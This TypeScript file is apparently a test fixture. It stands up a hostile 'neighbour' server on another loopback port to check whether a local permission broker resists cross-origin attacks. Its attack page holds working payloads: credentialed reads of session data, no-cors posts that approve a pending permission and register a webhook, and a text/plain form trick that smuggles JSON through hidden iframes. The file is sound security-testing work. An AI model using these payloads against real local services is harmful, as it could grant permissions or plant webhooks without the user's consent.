import { createServer, type IncomingHttpHeaders, type Server } from 'node:http';
import type { AddressInfo } from 'node:net';

/** What the attacking page could read of the broker's answers (from its own script). */
export interface NeighbourReport {
  read: { name: string; status: number; type: string; body: string | null }[];
  failed: string[];
}

/** A request the browser sent the neighbour: everything another program on another port receives. */
export interface Received {
  method: string;
  url: string;
  headers: IncomingHttpHeaders;
  body: string;
}

/**
 * Another program on another loopback port (issue 29): a preview server an agent started, a container
 * published on 127.0.0.1, another local user. Its page, opened in the person's signed-in browser,
 * tries everything a page can against the broker, and it records every request the browser sends it.
 */
export interface LoopbackNeighbour {
  /** The attacking page, aimed at this broker and this permission request. */
  pageUrl(broker: string, notificationId: string): string;
  received: Received[];
  /** Resolves with the page's report once its script has tried everything. */
  report: Promise<NeighbourReport>;
  close(): Promise<void>;
}

export async function startLoopbackNeighbour(): Promise<LoopbackNeighbour> {
  const received: Received[] = [];
  let reported: (report: NeighbourReport) => void = () => undefined;
  const report = new Promise<NeighbourReport>((resolve) => (reported = resolve));
  const server: Server = createServer((request, response) => {
    const chunks: Buffer[] = [];
    request.on('data', (chunk: Buffer) => chunks.push(chunk));
    request.on('end', () => {
      const body = Buffer.concat(chunks).toString('utf8');
      received.push({ method: request.method ?? '', url: request.url ?? '', headers: request.headers, body });
      const url = new URL(request.url ?? '/', 'http://neighbour');
      if (url.pathname === '/report') {
        reported(JSON.parse(body) as NeighbourReport);
        response.writeHead(204).end();
      } else if (url.pathname === '/') {
        const broker = url.searchParams.get('broker') ?? '';
        const id = url.searchParams.get('id') ?? '';
        response.writeHead(200, { 'content-type': 'text/html; charset=utf-8' }).end(attackPage(broker, id));
      } else {
        // A 1x1 GIF: the image the page loads from its own server, to receive the browser's cookies.
        response
          .writeHead(200, { 'content-type': 'image/gif' })
          .end(Buffer.from('R0lGODlhAQABAAAAACwAAAAAAQABAAA=', 'base64'));
      }
    });
  });
  await new Promise<void>((resolve) => server.listen(0, '127.0.0.1', resolve));
  const { port } = server.address() as AddressInfo;
  return {
    pageUrl: (broker, id) =>
      `http://127.0.0.1:${port}/?broker=${encodeURIComponent(broker)}&id=${encodeURIComponent(id)}`,
    received,
    report,
    close: () =>
      new Promise((resolve) => {
        server.closeAllConnections();
        server.close(() => resolve());
      }),
  };
}

/** The page: images, credentialed reads, no-cors posts and form posts into hidden frames. */
function attackPage(broker: string, id: string): string {
  const answer = `${broker}/v1/notifications/${encodeURIComponent(id)}/answer`;
  const providers = `${broker}/v1/providers`;
  const script = `
const broker = ${JSON.stringify(broker)};
const report = { read: [], failed: [] };
const image = (src) => new Promise((done) => { const i = new Image(); i.onload = i.onerror = done; i.src = src; });
async function attempt(name, run) {
  try {
    const r = await run();
    report.read.push({ name, status: r.status, type: r.type, body: r.type === 'opaque' ? null : await r.text() });
  } catch (error) {
    report.failed.push(name + ': ' + error);
  }
}
const json = (value) => ({ method: 'POST', mode: 'no-cors', credentials: 'include',
  headers: { 'content-type': 'text/plain' }, body: JSON.stringify(value) });
(async () => {
  await image('/pixel.gif');
  await image(broker + '/v1/web/session');
  await image(broker + '/v1/notifications');
  await attempt('session', () => fetch(broker + '/v1/web/session', { credentials: 'include' }));
  await attempt('notifications', () => fetch(broker + '/v1/notifications', { credentials: 'include' }));
  await attempt('stream', () => fetch(broker + '/v1/stream', { credentials: 'include' }));
  await attempt('answer', () => fetch(${JSON.stringify(answer)}, json({ action: 'allow', surface: 'web' })));
  await attempt('provider', () => fetch(${JSON.stringify(providers)},
    json({ kind: 'webhook', name: 'neighbour', settings: { url: 'http://127.0.0.1:9/' } })));
  for (const form of document.forms) form.submit();
  await image('/after-forms.gif');
  await fetch('/report', { method: 'POST', body: JSON.stringify(report) });
})();`;
  // text/plain forms send `name=value`: the name opens a JSON object whose last field swallows the "=".
  const form = (action: string, target: string, fields: string) =>
    `<iframe name="${target}"></iframe><form method="post" enctype="text/plain" target="${target}" action="${action}">` +
    `<input name='${fields},"x":"' value='"}'></form>`;
  return (
    '<!doctype html><title>A preview server</title>' +
    form(answer, 'a', '{"action":"allow","surface":"web"') +
    form(providers, 'p', '{"kind":"webhook","name":"neighbour","settings":{"url":"http://127.0.0.1:9/"}') +
    `<script>${script}</script>`
  );
}
